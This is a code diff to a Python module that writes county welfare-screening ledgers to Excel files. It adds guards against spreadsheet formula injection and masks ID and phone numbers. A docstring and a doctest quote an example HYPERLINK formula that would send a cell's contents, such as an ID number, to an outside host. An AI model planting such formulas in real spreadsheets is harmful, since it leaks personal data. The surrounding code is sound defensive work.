@@ -5,6 +5,13 @@ The columns are those of the county 摸排台账 form, then Doudi's own (case ty
 amount at risk, review status, case id). For a person found outside the rosters (a missed
 severely disabled person, a key-group member not covered) the form's 通过排查拟纳入救助 and
 未纳入原因 come from the reviewer's decision.
+
+Every text is written as a text cell, never as a formula: a registry value or a reviewer's
+reason such as ``=HYPERLINK("http://x/?"&E3,"详情")`` would otherwise be live in the clerk's
+spreadsheet (and could send a full ID number out). Text that a spreadsheet would read as a
+formula when typed (starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is
+also marked quote-prefixed, so that it stays text when the clerk edits the cell. Numbers
+(amounts, scores, counts) stay numbers.
 """
 
 from __future__ import annotations
@@ -15,13 +22,14 @@ from collections.abc import Iterable
 from typing import Any
 
 from openpyxl import Workbook
-from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.worksheet import Worksheet
 
+from api.masking import mask_id, mask_phone
 from api.published import STATUS_LABELS, Published
 from models.case_types import CASE_LABELS, CASE_TYPES
-from resolver.idcard import mask_id
 from resolver.normalize import code_label
 
 LEDGER_COLUMNS = (
@@ -35,16 +43,57 @@ HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
 # Case types about a person outside the rosters: the form's inclusion columns apply.
 COVERAGE_TYPES = tuple(name for name, spec in CASE_TYPES.items() if spec.coverage)
 _SHEET_UNSAFE = re.compile(r"[\[\]:*?/\\']")  # characters a sheet name may not hold
+# How a typed entry that a spreadsheet reads as a formula starts.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def ledger_rows(published: Published, case_type: str, township: str | None = None) -> list[list]:
     """The 摸排台账 rows of one case type (optionally one township), by township, village,
-    highest risk first."""
-    cases = [case for case in published.cases.values()
-             if case["case_type"] == case_type and not case["resolved"]
-             and (township is None or case["township"] == township)]  # fmt: skip
+    highest risk first.
+
+    Parameters
+    ----------
+    published : Published
+        The published cases and the decisions so far.
+    case_type : str
+        A case type (a key of ``CASE_TYPES``).
+    township : str or None
+        Only this township's cases; every township's when None.
+
+    Returns
+    -------
+    list of list
+        One row per open case, in ``LEDGER_COLUMNS`` order, numbered from 1.
+    """
+    cases = _ledger_cases(published, case_type, township)
     cases.sort(key=lambda c: (c["township"] or "", c["village"] or "", -(c["risk_score"] or 0)))
     return [[number, *_ledger_row(published, case)] for number, case in enumerate(cases, 1)]
+
+
+def ledger_size(published: Published, case_type: str, township: str | None = None) -> int:
+    """How many rows ``ledger_rows`` gives (the open cases of the type), without building them.
+
+    Parameters
+    ----------
+    published : Published
+        The published cases and the decisions so far.
+    case_type : str
+        A case type (a key of ``CASE_TYPES``).
+    township : str or None
+        Only this township's cases; every township's when None.
+
+    Returns
+    -------
+    int
+        The number of rows of the ledger.
+    """
+    return len(_ledger_cases(published, case_type, township))
+
+
+def _ledger_cases(published: Published, case_type: str, township: str | None) -> list[dict]:
+    return [case for case in published.cases.values()
+            if case["case_type"] == case_type and not case["resolved"]
+            and (township is None or case["township"] == township)]  # fmt: skip
 
 
 def _ledger_row(published: Published, case: dict[str, Any]) -> list:
@@ -100,7 +149,19 @@ def _inclusion(case_type: str, status: str, events: list[dict]) -> tuple[str, st
 
 
 def summary_rows(published: Published) -> list[list]:
-    """The 汇总表: per township, open cases by type, total, amount at risk, review outcome."""
+    """The 汇总表: per township, open cases by type, total, amount at risk, review outcome.
+
+    Parameters
+    ----------
+    published : Published
+        The published cases and the decisions so far.
+
+    Returns
+    -------
+    list of list
+        One row per township in ``SUMMARY_COLUMNS`` order, then the 合计 row (none when no
+        case is open).
+    """
     table: dict[str, dict[str, Any]] = {}
     for case in published.cases.values():
         if case["resolved"]:
@@ -125,14 +186,41 @@ def summary_rows(published: Published) -> list[list]:
     return rows
 
 
+ID_COLUMN, PHONE_COLUMN = LEDGER_COLUMNS.index("身份证号码"), LEDGER_COLUMNS.index("联系电话")
+
+
+def _masked_row(row: list) -> list:
+    masked = list(row)
+    masked[ID_COLUMN] = mask_id(row[ID_COLUMN])
+    masked[PHONE_COLUMN] = mask_phone(row[PHONE_COLUMN])
+    return masked
+
+
 def ledger_workbook(
-    published: Published, case_type: str, *, township: str | None = None, mask_ids: bool
+    published: Published, case_type: str, *, township: str | None = None, masked: bool
 ) -> bytes:
-    """One case type's 摸排台账: a sheet per township (or the one asked for); ID numbers
-    masked when ``mask_ids``."""
+    """One case type's 摸排台账: a sheet per township (or the one asked for); ID and phone
+    numbers masked when ``masked`` (``api.masking``). Text is written as text, never as a formula (``text_cells``).
+
+    Parameters
+    ----------
+    published : Published
+        The published cases and the decisions so far.
+    case_type : str
+        A case type (a key of ``CASE_TYPES``).
+    township : str or None
+        Only this township's sheet; a sheet per township when None.
+    masked : bool
+        Whether ID and phone numbers are masked (for roles that may not see them).
+
+    Returns
+    -------
+    bytes
+        The XLSX file.
+    """
     rows = ledger_rows(published, case_type, township)
-    if mask_ids:
-        rows = [[*row[:4], mask_id(row[4]), *row[5:]] for row in rows]
+    if masked:
+        rows = [_masked_row(row) for row in rows]
     townships = sorted({row[1] or "未知" for row in rows}) or [township or "无疑点"]
     book = Workbook()
     book.remove(book.active)
@@ -145,6 +233,18 @@ def ledger_workbook(
 
 
 def summary_workbook(published: Published) -> bytes:
+    """The township summary (汇总表, ``summary_rows``) as an XLSX file.
+
+    Parameters
+    ----------
+    published : Published
+        The published cases and the decisions so far.
+
+    Returns
+    -------
+    bytes
+        The XLSX file.
+    """
     book = Workbook()
     book.remove(book.active)
     _sheet(book, "汇总表", "兜底疑点排查汇总表", SUMMARY_COLUMNS, summary_rows(published))
@@ -154,19 +254,57 @@ def summary_workbook(published: Published) -> bytes:
 def _sheet(book: Workbook, name: str, title: str, headers: tuple, rows: list[list]) -> None:
     sheet = book.create_sheet(_SHEET_UNSAFE.sub("", ILLEGAL_CHARACTERS_RE.sub("", name))[:31]
                               or "台账")  # fmt: skip
-    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", title)])
+    sheet.append(text_cells(sheet, [title]))
     sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=len(headers))
     sheet["A1"].font = Font(bold=True, size=14)
     sheet["A1"].alignment = Alignment(horizontal="center")
-    sheet.append(list(headers))
+    sheet.append(text_cells(sheet, list(headers)))
     for cell in sheet[2]:
         cell.font, cell.fill = Font(bold=True), HEADER_FILL
         cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
-    for row in rows:  # dirty input may carry control characters a workbook cannot hold
-        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row])
+    for row in rows:
+        sheet.append(text_cells(sheet, row))
     sheet.freeze_panes = "A3"
     for index, header in enumerate(headers, 1):
         sheet.column_dimensions[get_column_letter(index)].width = max(8, min(22, 2 * len(header)))
+
+
+def text_cells(sheet: Worksheet, values: list) -> list:
+    """A row's cells in which text is text: never a formula, whatever it starts with.
+
+    Parameters
+    ----------
+    sheet : Worksheet
+        The sheet the row is appended to.
+    values : list
+        The row's values: text, numbers or None.
+
+    Returns
+    -------
+    list
+        The values, each text as a string cell (characters a workbook cannot hold dropped,
+        quote-prefixed when it starts like a formula) and every other value as it was.
+
+    Examples
+    --------
+    >>> book = Workbook()
+    >>> cells = text_cells(book.active, ['=HYPERLINK("http://x/?"&E3,"a")', "张三", 2.5, None])
+    >>> [(cell.data_type, cell.quotePrefix) for cell in cells[:2]], cells[2:]
+    ([('s', True), ('s', False)], [2.5, None])
+    """
+    cells: list = []
+    for value in values:
+        if not isinstance(value, str):
+            cells.append(value)
+            continue
+        text = ILLEGAL_CHARACTERS_RE.sub("", value)  # dirty input may carry control characters
+        cell = Cell(sheet)
+        cell.value = text
+        cell.data_type = "s"  # openpyxl makes text starting with "=" a formula
+        if text.startswith(FORMULA_STARTS):
+            cell.quotePrefix = True
+        cells.append(cell)
+    return cells
 
 
 def _bytes(book: Workbook) -> bytes:
